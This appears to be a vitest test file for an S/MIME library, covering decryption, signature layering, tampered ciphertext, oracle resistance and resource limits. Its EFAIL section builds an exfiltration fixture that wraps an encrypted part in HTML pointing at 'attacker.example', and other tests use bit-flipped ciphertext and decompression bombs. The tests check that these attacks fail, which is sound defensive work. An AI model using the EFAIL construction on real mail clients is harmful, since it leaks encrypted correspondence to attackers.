import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { derExplicit, derInteger, derOctetString, derOid, derSequence } from '../../src/pki/der.ts';
import { oids } from '../../src/pki/oid.ts';
import { inspectJson } from '../../src/smime/inspect.ts';
import { maxLayers } from '../../src/smime/open-message.ts';
import { sealEntity } from '../../src/smime/seal-entity.ts';
import { cpuNow } from '../kit/cpu-time.ts';
import { at, derOf, leaf, node, replaceAt, treeOf } from './der-tree.ts';
import {
  alice,
  bytesOf,
  ca,
  cmsEntity,
  entity,
  eve,
  join,
  list,
  messageOf,
  multipart,
  open,
  outcomeOf,
  sealedTo,
  signedBy,
  textEntity,
  withLf,
  words,
} from './vector-kit.ts';

/** Where the fields of an envelope of ours stand: RFC 5652 §6.1, RFC 5083 §2.1. */
const recipientInfos = [1, 0, 1];
const encryptedContent = [1, 0, 2, 2];

function sealedDer(content: Uint8Array, cipher: 'aes-256-gcm' | 'aes-256-cbc'): Uint8Array {
  const sealer = sealEntity(content, cipher);
  const { head, tail } = sealer.copyFor(list.certificate);
  return new Uint8Array(Buffer.from(Buffer.concat([head, tail]).toString('latin1'), 'base64'));
}

function flipAt(der: Uint8Array, path: readonly number[], index: number): Uint8Array {
  return derOf(
    replaceAt(treeOf(der), path, ({ identifier, content }) =>
      leaf(
        identifier,
        content.map((octet, position) => (position === index ? octet ^ 0x80 : octet)),
      ),
    ),
  );
}

/** Nothing that a report shows may hold the text. */
function expectSilent(opened: ReturnType<typeof open>): void {
  expect(JSON.stringify(inspectJson(opened))).not.toContain(words);
}

describe('a genuine envelope', () => {
  it.each([
    'aes-256-gcm',
    'aes-128-gcm',
    'aes-256-cbc',
    'aes-128-cbc',
  ] as const)('of %s is opened', (cipher) => {
    const message = messageOf(sealedTo(list.certificate, signedBy(alice), cipher));
    for (const bytes of [message, withLf(message)]) {
      const opened = open(bytes);
      const aead = cipher.endsWith('gcm');
      expect(outcomeOf(opened)).toEqual({
        kind: aead ? 'auth-enveloped' : 'enveloped',
        signature: 'valid',
        code: null,
        method: 'smime',
      });
      expect(opened.decryption).toMatchObject({ status: 'opened', contentEncryption: cipher, aead });
      expect(opened.innermost!.use((content) => Buffer.from(content).toString())).toContain(words);
      expectSilent(opened);
    }
  });

  it('gives the payload byte for byte, its signature included', () => {
    const inside = signedBy(alice);
    const opened = open(messageOf(sealedTo(list.certificate, inside)));
    expect(opened.payload!.use((content) => Buffer.from(content))).toEqual(Buffer.from(inside));
  });

  it('is known again by the digest of its ciphertext, whoever it is dressed for', () => {
    const der = sealedDer(entity, 'aes-256-gcm');
    const plain = open(messageOf(cmsEntity(der, 'authEnveloped-data')));
    const signed = open(
      messageOf(signedBy(eve, cmsEntity(der, 'authEnveloped-data')), 'From: eve@example.org'),
    );
    expect(plain.decryption.contentDigest).toMatch(/^[0-9a-f]{64}$/);
    expect(signed.decryption.contentDigest).toBe(plain.decryption.contentDigest);
    expect(plain.decryption.keyDigest).toMatch(/^[0-9a-f]{64}$/);
    expect(signed.decryption.keyDigest).toBe(plain.decryption.keyDigest);
    const again = open(messageOf(sealedTo(list.certificate, entity)));
    expect(again.decryption.keyDigest).not.toBe(plain.decryption.keyDigest);
  });
});

describe('signatures and envelopes in combination', () => {
  const sealed = sealedTo(list.certificate, entity);
  const sealedByAlice = sealedTo(list.certificate, signedBy(alice));

  it('an envelope that is signed outside counts as signed by its signer', () => {
    expect(outcomeOf(open(messageOf(signedBy(alice, sealed))))).toMatchObject({
      signature: 'valid',
      method: 'smime',
    });
  });

  it('an envelope of another under a signature of one’s own is not authenticated as either', () => {
    const stolen = signedBy(eve, sealedByAlice);
    const asEve = open(messageOf(stolen, 'From: eve@example.org'));
    expect(outcomeOf(asEve)).toMatchObject({ signature: 'valid', method: 'smtp' });
    expect(asEve.sender.code).toBe('signer-not-sender');
  });

  it('a triple-wrapped message is authenticated as who signed the body', () => {
    expect(outcomeOf(open(messageOf(signedBy(eve, sealedByAlice))))).toMatchObject({ method: 'smime' });
  });

  it('a broken signature outside spoils a valid one inside', () => {
    const text = Buffer.from(messageOf(signedBy(eve, sealedByAlice))).toString('latin1');
    const broken = bytesOf(text.replace('name="smime.p7m"', 'name="other.p7m"'), 'latin1');
    const opened = open(broken);
    expect(outcomeOf(opened)).toMatchObject({
      signature: 'invalid',
      code: 'digest-mismatch',
      method: 'smtp',
    });
    expect(opened.decryption.status).toBe('opened');
  });

  it('an unsigned envelope is not signed', () => {
    expect(outcomeOf(open(messageOf(sealed)))).toMatchObject({ signature: 'none', method: 'smtp' });
  });
});

describe('direct exfiltration (EFAIL)', () => {
  const secret = sealedTo(list.certificate, entity);
  const before = textEntity('<img src="http://attacker.example/?', 'text/html');
  const behind = textEntity('">', 'text/html');

  it.each([
    ['between two HTML parts', multipart('mixed', 'outer', before, secret, behind)],
    ['alone in a multipart/mixed', multipart('mixed', 'outer', secret)],
    ['as an alternative', multipart('alternative', 'outer', before, secret)],
    ['in a signed multipart', signedBy(eve, multipart('mixed', 'outer', before, secret, behind))],
    ['in a forwarded message', join('Content-Type: message/rfc822\r\n\r\n', messageOf(secret))],
  ])('an envelope %s is never opened', (_name, content) => {
    for (const bytes of [messageOf(content), withLf(messageOf(content))]) {
      const opened = open(bytes, { identities: [list] });
      expect(opened.decryption.status).toBe('none');
      expect(opened.payload).toBeUndefined();
      expect(opened.innermost!.use((inner) => Buffer.from(inner).toString())).not.toContain(words);
    }
  });

  it('an envelope under a PGP signature is left alone', () => {
    const pgp = join(
      'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary="b"\r\n\r\n--b\r\n',
      secret,
      '\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\nnone\r\n--b--\r\n',
    );
    const opened = open(messageOf(pgp));
    expect(opened).toMatchObject({ kind: 'none', protected: true, layers: [] });
    expect(opened.decryption.status).toBe('none');
  });
});

describe('changed ciphertext', () => {
  it('with a tag of its own is refused, whichever byte was changed', () => {
    const der = sealedDer(entity, 'aes-256-gcm');
    const size = at(treeOf(der), encryptedContent).content.length;
    expect(size).toBe(entity.length);
    for (let index = 0; index < size; index += 7) {
      const opened = open(messageOf(cmsEntity(flipAt(der, encryptedContent, index), 'authEnveloped-data')));
      expect(opened.decryption.status).toBe('failed');
      expect(opened.payload ?? opened.innermost).toBeUndefined();
    }
  });

  it('of CBC never passes changed words off as signed', () => {
    const der = sealedDer(signedBy(alice), 'aes-256-cbc');
    const size = at(treeOf(der), encryptedContent).content.length;
    expect(size).toBeGreaterThan(entity.length);
    for (let index = 0; index < size; index += 61) {
      const opened = open(messageOf(cmsEntity(flipAt(der, encryptedContent, index), 'enveloped-data')));
      // A change in what lies around the signed part, such as a field of the signature's own part, harms nothing.
      if (opened.authenticationMethod === 'smime')
        expect(opened.innermost!.use((content) => Buffer.from(content))).toEqual(Buffer.from(entity));
      expect(opened.decryption.aead).toBe(false);
      expectSilent(opened);
    }
  });

  it('of an AEAD message dressed as CBC gives nothing that counts as authenticated', () => {
    const tree = treeOf(sealedDer(entity, 'aes-256-gcm'));
    const ciphertext = at(tree, encryptedContent).content;
    const iv = new Uint8Array(16);
    const padded = new Uint8Array(Math.ceil(ciphertext.length / 16) * 16);
    padded.set(ciphertext);
    const dressed = derSequence(
      derOid(oids.envelopedData),
      derExplicit(
        0,
        derSequence(
          derInteger(0),
          derOf(at(tree, recipientInfos)),
          derSequence(
            derOid(oids.data),
            derSequence(derOid(oids.aes256Cbc), derOctetString(iv)),
            derOf(leaf(0x80, padded)),
          ),
        ),
      ),
    );
    const opened = open(messageOf(cmsEntity(dressed, 'enveloped-data')));
    expect(opened.decryption.aead).toBe(false);
    expect(opened.authenticationMethod).toBe('smtp');
    expectSilent(opened);
  });

  it('an AEAD cipher in EnvelopedData, and CBC in AuthEnvelopedData, are refused', () => {
    const gcm = treeOf(sealedDer(entity, 'aes-256-gcm'));
    const [version, recipients, content] = gcm.members![1]!.members![0]!.members!;
    const dressed = derOf(
      node(0x30, treeOf(derOid(oids.envelopedData)), node(0xa0, node(0x30, version!, recipients!, content!))),
    );
    expect(open(messageOf(cmsEntity(dressed, 'enveloped-data'))).decryption.status).toBe('failed');
  });
});

describe('the decryption oracle', () => {
  const der = sealedDer(entity, 'aes-256-cbc');
  // ContentInfo, [0], EnvelopedData, recipientInfos, the first, its encryptedKey.
  const encryptedKey = [...recipientInfos, 0, 3];
  const failures = Array.from({ length: 64 }, (_, index) => flipAt(der, encryptedKey, index * 4));

  it('tells no cause: every broken key gives a report of the same words, or garbage without a word', () => {
    const reports = failures.map((broken) => {
      const opened = open(messageOf(cmsEntity(broken, 'enveloped-data')));
      const { decryption, layers, innermost } = opened;
      expect(innermost?.use((inner) => Buffer.from(inner).includes(words)) ?? false).toBe(false);
      const [layer] = layers;
      return decryption.status === 'failed' ? JSON.stringify({ ...decryption, layer }) : undefined;
    });
    const failed = reports.filter((report) => report !== undefined);
    expect(failed.length).toBeGreaterThan(0);
    expect(new Set(failed).size).toBe(1);
  });

  it('answers a wrong tag, a truncated ciphertext and a missing one alike', () => {
    const gcm = sealedDer(entity, 'aes-256-gcm');
    const cut = derOf(
      replaceAt(treeOf(gcm), encryptedContent, (old) => leaf(old.identifier, old.content.subarray(0, -5))),
    );
    const none = derOf(replaceAt(treeOf(gcm), encryptedContent, () => undefined));
    const tag = flipAt(gcm, [1, 0, 3], 0);
    const answers = [cut, none, tag].map((one) => {
      const { layers, decryption } = open(messageOf(cmsEntity(one, 'authEnveloped-data')));
      return JSON.stringify([layers, decryption.status]);
    });
    expect(new Set(answers).size).toBe(1);
    expect(answers[0]).toContain('failed');
  });
});

describe('whose key it is', () => {
  const other = ca.issue({ address: 'other@lists.example.org', use: 'encrypt' });
  const message = messageOf(sealedTo(list.certificate, entity));

  it.each([
    ['no key at all', { identities: [] }, 'not-for-us'],
    ['another key only', { identities: [other] }, 'not-for-us'],
    ['the key among others', { identities: [other, list] }, 'opened'],
    ['a locked key', { identities: [other], lockedCertificates: [list.certificate] }, 'key-unavailable'],
    ['another locked key', { identities: [], lockedCertificates: [other.certificate] }, 'not-for-us'],
    [
      'the key, and another locked',
      { identities: [list], lockedCertificates: [other.certificate] },
      'opened',
    ],
    [
      'a wrong key under the right certificate',
      { identities: [{ ...list, privateKey: other.privateKey }] },
      'failed',
    ],
  ] as const)('%s', (_name, options, status) => {
    const opened = open(message, options);
    expect(opened.decryption.status).toBe(status);
    expect(opened.payload === undefined).toBe(status !== 'opened');
  });
});

describe('bombs', () => {
  it('nesting beyond the limit makes everything fail closed', () => {
    let content: Uint8Array = entity;
    for (let depth = 0; depth < maxLayers; depth++) content = signedBy(alice, content, true);
    expect(outcomeOf(open(messageOf(content)))).toMatchObject({ signature: 'valid', method: 'smime' });
    const deeper = open(messageOf(signedBy(alice, content, true)));
    expect(outcomeOf(deeper)).toMatchObject({
      signature: 'invalid',
      code: 'too-many-layers',
      method: 'smtp',
    });
    expect(deeper.innermost).toBeUndefined();
  });

  it('an envelope at the bottom of too many layers is a failure', () => {
    let content: Uint8Array = entity;
    for (let depth = 0; depth <= maxLayers; depth++) content = sealedTo(list.certificate, content);
    expect(open(messageOf(content)).decryption.status).toBe('failed');
  });

  it('compressed data that inflates without end is not inflated', () => {
    const zeros = deflateSync(new Uint8Array(80 << 20));
    const startMs = cpuNow();
    const opened = open(messageOf(cmsEntity(compressed(zeros), 'compressed-data')));
    expect(opened.kind).toBe('compressed');
    expect(opened.innermost).toBeUndefined();
    expect(cpuNow() - startMs).toBeLessThan(5000);
  });

  it('compressed mail is read', () => {
    const opened = open(messageOf(cmsEntity(compressed(deflateSync(signedBy(alice))), 'compressed-data')));
    expect(outcomeOf(opened)).toMatchObject({ kind: 'compressed', signature: 'valid', method: 'smime' });
  });

  it('100,000 recipients are not looked at', () => {
    const tree = treeOf(sealedDer(entity, 'aes-256-gcm'));
    const many = replaceAt(tree, recipientInfos, (set) => ({
      ...set,
      members: Array.from({ length: 100_000 }, () => set.members![0]!),
    }));
    const message = messageOf(cmsEntity(derOf(many), 'authEnveloped-data'));
    const startMs = cpuNow();
    const opened = open(message);
    expect(opened.decryption.status).toBe('failed');
    expect(cpuNow() - startMs).toBeLessThan(5000);
  });

  it('garbage that says it is an envelope is a failure, and garbage that says it is signed is invalid', () => {
    const garbage = (type: string) => open(messageOf(cmsEntity(bytesOf('garbage'), type)));
    expect(garbage('enveloped-data').decryption.status).toBe('failed');
    expect(garbage('authEnveloped-data').kind).toBe('auth-enveloped');
    expect(garbage('signed-data').signature).toMatchObject({ status: 'invalid', code: 'not-cms' });
    expect(garbage('certs-only').kind).toBe('certs-only');
    expect(garbage('').decryption.status).toBe('failed');
  });
});

function compressed(bytes: Uint8Array): Uint8Array {
  const content = derSequence(derOid(oids.data), derExplicit(0, derOctetString(bytes)));
  const value = derSequence(derInteger(0), derSequence(derOid(oids.zlibCompress)), content);
  return derSequence(derOid(oids.compressedData), derExplicit(0, value));
}
